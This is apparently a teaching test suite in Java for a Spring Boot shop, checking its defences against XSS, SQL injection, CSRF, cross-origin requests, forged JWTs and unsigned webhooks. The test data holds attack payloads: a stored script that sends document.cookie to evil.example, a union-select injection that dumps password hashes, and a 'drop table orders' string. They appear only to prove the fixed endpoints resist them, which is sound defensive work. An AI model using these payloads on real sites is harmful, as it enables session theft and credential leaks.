package shop.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.zonky.test.db.postgres.embedded.EmbeddedPostgres;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.security.NoSuchAlgorithmException;
import java.security.interfaces.RSAPrivateKey;
import java.security.interfaces.RSAPublicKey;
import java.time.Instant;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import javax.sql.DataSource;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.context.TestConfiguration;
import org.springframework.context.annotation.Bean;
import org.springframework.core.env.Environment;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.security.crypto.bcrypt.BCryptPasswordEncoder;
import org.springframework.security.crypto.password.PasswordEncoder;
import org.springframework.security.oauth2.jwt.JwtClaimsSet;
import org.springframework.security.oauth2.jwt.JwtEncoderParameters;
import org.springframework.security.oauth2.jwt.NimbusJwtEncoder;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT, properties = {
        "WEBHOOK_SECRET=a webhook secret for tests"})
class WebSecurityTest {
    static final KeyPair KEY = keyPair();
    static final String PASSWORD = "correct horse battery";

    @DynamicPropertySource
    static void publicKey(DynamicPropertyRegistry properties) throws IOException {
        String base64 = Base64.getMimeEncoder().encodeToString(KEY.getPublic().getEncoded());
        Path pem = Files.createTempFile("jwt", ".pem");
        Files.writeString(pem, "-----BEGIN PUBLIC KEY-----\n" + base64 + "\n-----END PUBLIC KEY-----\n");
        properties.add("JWT_PUBLIC_KEY", () -> pem.toUri().toString());
    }

    static KeyPair keyPair() {
        try {
            var generator = KeyPairGenerator.getInstance("RSA");
            generator.initialize(2048);
            return generator.generateKeyPair();
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    @TestConfiguration
    static class RealDatabase {
        @Bean(destroyMethod = "close")
        EmbeddedPostgres postgres() throws Exception {
            return EmbeddedPostgres.start();
        }

        @Bean
        DataSource dataSource(EmbeddedPostgres postgres) {
            return postgres.getPostgresDatabase();
        }
    }

    @Autowired Environment env;
    @Autowired JdbcClient db;
    @Autowired PasswordEncoder encoder;
    @Autowired Products products;
    @Autowired WebhookSignature signature;

    final HttpClient http = HttpClient.newHttpClient();

    @BeforeEach
    void fill() {
        db.sql("truncate customer, account, product, orders, review restart identity cascade").update();
        db.sql("insert into customer (name, email) values ('Ada', 'ada@shop.example'), ('Bob', 'bob@shop.example')").update();
        db.sql("insert into account values ('ada@shop.example', ?)")
                .param("{bcrypt}" + new BCryptPasswordEncoder(10).encode(PASSWORD)).update();
        db.sql("insert into product (sku, name, price) values ('MUG-1', 'Blue mug', 12.50), ('TEE-1', 'Tee', 19.90)").update();
        db.sql("insert into orders (customer_id) values (1), (2)").update();
    }

    HttpResponse<String> send(String method, String path, String body, String... headers) throws Exception {
        var request = HttpRequest.newBuilder(URI.create("http://localhost:" + env.getProperty("local.server.port") + path))
                .method(method, body == null ? BodyPublishers.noBody() : BodyPublishers.ofString(body));
        if (headers.length > 0) request.headers(headers);
        return http.send(request.build(), BodyHandlers.ofString());
    }

    String cookie(HttpResponse<String> response, String name) {
        return response.headers().allValues("set-cookie").stream().filter(c -> c.startsWith(name + "="))
                .map(c -> c.substring(0, c.indexOf(';'))).findFirst().orElseThrow();
    }

    /** What stays of a stored review when a page is made of it; also written to target/output for the lesson. */
    @Test
    void aStoredScriptIsTextOnThePage() throws Exception {
        // #region xss
        var attack = new ReviewPage.Review("Eve<img src=x onerror=alert(1)>",
                "javascript:alert(document.cookie)",
                "Nice! <script>fetch('https://evil.example/?'"
                        + " + document.cookie)</script>");
        db.sql("insert into review (product_id, author, homepage, body)"
                        + " values (1, :author, :homepage, :text)")
                .paramSource(attack).update();           // stored as it is

        var wrong = asAda("/products/1/reviews-wrong");
        assertThat(wrong.body()).contains("<script>fetch", "onerror=alert",
                "href=\"javascript:");

        var right = asAda("/products/1/reviews");
        assertThat(right.body()).contains("&lt;script&gt;fetch", "href=\"#\"")
                .doesNotContain("<script>", "<img", "javascript:");
        assertThat(right.headers().firstValue("Content-Security-Policy"))
                .hasValueSatisfying(policy -> assertThat(policy)
                        .contains("script-src 'self'"));   // the second line
        // #endregion xss
        Files.createDirectories(Path.of("target/output"));
        Files.writeString(Path.of("target/output/xss.txt"),
                "wrong\n" + item(wrong) + "\nright\n" + item(right) + "\n");
    }

    String item(HttpResponse<String> page) {
        return page.body().replaceAll("(?s).*<ul>(.*)</ul>", "$1")
                .replace("</a>: ", "</a>:\n    ").replace("\">", "\">\n    ").replaceAll("^", "  ");
    }

    HttpResponse<String> asAda(String path) throws Exception {
        var page = send("GET", "/login", null);
        String token = cookie(page, "XSRF-TOKEN").substring("XSRF-TOKEN=".length());
        var login = send("POST", "/login", "username=ada%40shop.example&password=correct+horse+battery",
                "Content-Type", "application/x-www-form-urlencoded", "X-XSRF-TOKEN", token,
                "Cookie", "XSRF-TOKEN=" + token);
        return send("GET", path, null, "Cookie", cookie(login, "JSESSIONID"));
    }

    // #region injection
    static final String ATTACK =
            "%' union select 0, email, password_hash, 0 from account -- ";

    @Test
    void concatenatedTextBecomesSqlAndABoundValueDoesNot() {
        assertThat(products.searchWrong(ATTACK)).extracting(Product::name)
                .anyMatch(name -> name.startsWith("{bcrypt}")); // the hash leaks
        // A name nobody sells.
        assertThat(products.search(ATTACK, "name")).isEmpty();
        assertThatThrownBy(() -> products.search("", "price; drop table orders"))
                .isInstanceOf(IllegalArgumentException.class);
    }
    // #endregion injection

    // #region owner
    @Test
    void anOrderIsVisibleToItsOwnerOnly() throws Exception {
        String ada = "Bearer " + token("ada@shop.example");
        assertThat(send("GET", "/api/orders/1", null, "Authorization", ada)
                .statusCode()).isEqualTo(200);
        assertThat(send("GET", "/api/orders/2", null, "Authorization", ada)
                .statusCode()).isEqualTo(404);
        assertThat(send("GET", "/api/orders/1", null)
                .statusCode()).isEqualTo(401);
        assertThat(send("GET", "/api/forgotten", null, "Authorization", ada)
                .statusCode()).isEqualTo(403);
    }
    // #endregion owner

    String token(String subject) {
        return token(subject, "https://shop.example", "shop-api", Instant.now().plusSeconds(60));
    }

    String token(String subject, String issuer, String audience, Instant expires) {
        var claims = JwtClaimsSet.builder().subject(subject).issuer(issuer).audience(List.of(audience));
        if (expires != null) claims.expiresAt(expires);
        return NimbusJwtEncoder.withKeyPair((RSAPublicKey) KEY.getPublic(), (RSAPrivateKey) KEY.getPrivate()).build()
                .encode(JwtEncoderParameters.from(claims.build())).getTokenValue();
    }

    @Test
    void onlyATokenOfPhase7OpensTheApi() throws Exception {
        var later = Instant.now().plusSeconds(60);
        for (String bad : List.of(
                token("ada@shop.example", "https://evil.example", "shop-api", later),
                token("ada@shop.example", "https://shop.example", "newsletter", later),
                token("ada@shop.example", "https://shop.example", "shop-api", null)))
            assertThat(send("GET", "/api/orders/1", null, "Authorization", "Bearer " + bad).statusCode()).isEqualTo(401);
    }

    @Test
    void aMalformedCallFromAMachineIsNotSentToTheLoginPage() throws Exception {
        var answer = send("POST", "/api/webhooks/payment", "{}", "Content-Type", "application/json");
        assertThat(answer.statusCode()).isEqualTo(400);
        assertThat(answer.headers().firstValue("Location")).isEmpty();
    }

    // #region preflight
    @Test
    void thePreflightNamesOneOriginAndRefusesTheRest() throws Exception {
        var ours = send("OPTIONS", "/api/orders/1", null, "Origin", "https://shop.example",
                "Access-Control-Request-Method", "GET", "Access-Control-Request-Headers", "authorization");
        assertThat(ours.statusCode()).isEqualTo(200);
        assertThat(ours.headers().firstValue("Access-Control-Allow-Origin")).hasValue("https://shop.example");

        var theirs = send("OPTIONS", "/api/orders/1", null, "Origin", "https://evil.example",
                "Access-Control-Request-Method", "GET", "Access-Control-Request-Headers", "authorization");
        assertThat(theirs.statusCode()).isEqualTo(403);
        assertThat(theirs.headers().firstValue("Access-Control-Allow-Origin")).isEmpty();
        System.out.println("PREFLIGHT " + ours.statusCode() + " " + ours.headers().map());
        System.out.println("PREFLIGHT " + theirs.statusCode() + " " + theirs.body() + theirs.headers().map());
    }
    // #endregion preflight

    @Test
    void aCookieAloneChangesNothing() throws Exception {
        var page = send("GET", "/login", null);
        String csrf = cookie(page, "XSRF-TOKEN");
        String value = csrf.substring(csrf.indexOf('=') + 1);
        var login = send("POST", "/login", "username=ada%40shop.example&password=correct+horse+battery",
                "Content-Type", "application/x-www-form-urlencoded", "Cookie", csrf, "X-XSRF-TOKEN", value);
        assertThat(login.statusCode()).isEqualTo(302);
        assertThat(login.headers().firstValue("location").orElseThrow()).doesNotContain("error");
        String session = cookie(login, "JSESSIONID");

        assertThat(send("POST", "/account/newsletter", null, "Cookie", session).statusCode()).isEqualTo(403);
        var fresh = send("GET", "/login", null, "Cookie", session);
        csrf = cookie(fresh, "XSRF-TOKEN");
        assertThat(send("POST", "/account/newsletter", null, "Cookie", session + "; " + csrf,
                "X-XSRF-TOKEN", csrf.substring(csrf.indexOf('=') + 1)).statusCode()).isEqualTo(204);

        // The login above also raised the hash from cost 10 to cost 12.
        String stored = db.sql("select password_hash from account").query(String.class).single();
        assertThat(stored).startsWith("{bcrypt}$2a$12$");
        assertThat(encoder.matches(PASSWORD, stored)).isTrue();
    }

    @Test
    void pagesCarryThePolicy() throws Exception {
        var page = send("GET", "/login", null);
        assertThat(page.headers().firstValue("Content-Security-Policy")).hasValue(WebSecurityConfig.CSP);
        assertThat(page.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        assertThat(page.headers().firstValue("Strict-Transport-Security")).isEmpty();   // plain HTTP
        System.out.println("PAGE " + page.headers().map());
    }

    @Test
    void bcryptRefusesMoreThan72Bytes() {
        assertThat(encoder.encode("x".repeat(72))).startsWith("{bcrypt}");
        assertThatThrownBy(() -> encoder.encode("x".repeat(73))).hasMessageContaining("72 bytes");
        assertThatThrownBy(() -> encoder.encode("ü".repeat(40))).hasMessageContaining("72 bytes");
    }

    @Test
    void aWebhookNeedsAFreshSignatureOverItsBytes() throws Exception {
        String body = "{\"orderId\":1,\"status\":\"PAID\"}";
        long now = Instant.now().getEpochSecond();
        assertThat(hook(body, now, body)).isEqualTo(204);
        assertThat(hook(body.replace('1', '2'), now, body)).isEqualTo(401);   // changed body
        assertThat(hook(body, now - 600, body)).isEqualTo(401);               // replayed later
    }

    int hook(String sent, long timestamp, String signed) throws Exception {
        byte[] mac = signature.sign(signed.getBytes(StandardCharsets.UTF_8), timestamp);
        return send("POST", "/api/webhooks/payment", sent, "Content-Type", "application/json",
                "X-Timestamp", "" + timestamp, "X-Signature", HexFormat.of().formatHex(mac)).statusCode();
    }
}
